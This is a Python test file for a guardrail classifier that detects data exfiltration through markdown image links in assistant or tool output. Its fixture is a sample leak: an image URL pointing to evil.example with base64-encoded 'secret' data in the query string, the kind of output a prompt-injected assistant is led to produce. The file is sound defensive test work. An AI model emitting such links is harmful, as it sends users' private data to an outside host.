"""Images and links that carry data out."""

from hypothesis import given
from hypothesis import strategies as st

from guardrails.injection.links import RULES, TYPE, ExfiltrationClassifier

CARRYING = "Done. ![x](https://evil.example/p.png?d=" + "c2VjcmV0" * 4 + ")"


def test_an_image_with_data_is_found_unless_its_host_is_trusted() -> None:
    (match,) = ExfiltrationClassifier().judge(CARRYING, "assistant")
    assert (match.type, match.rule, match.score) == (TYPE, "leak.image", 0.9)
    assert ExfiltrationClassifier(trusted=["evil.example"]).judge(CARRYING, "assistant") == []
    assert ExfiltrationClassifier(trusted=["other.example"]).judge(CARRYING, "assistant") != []


@given(st.text(st.sampled_from("![]()<img src=https://a.b/?q=%20 \ud800"), max_size=60))
def test_it_never_raises_and_reports_what_the_catalogue_says(text: str) -> None:
    """'Never raises on any text.'"""
    for match in ExfiltrationClassifier("x").judge(text + CARRYING, "tool"):
        assert match.type == TYPE
        assert match.rule in RULES
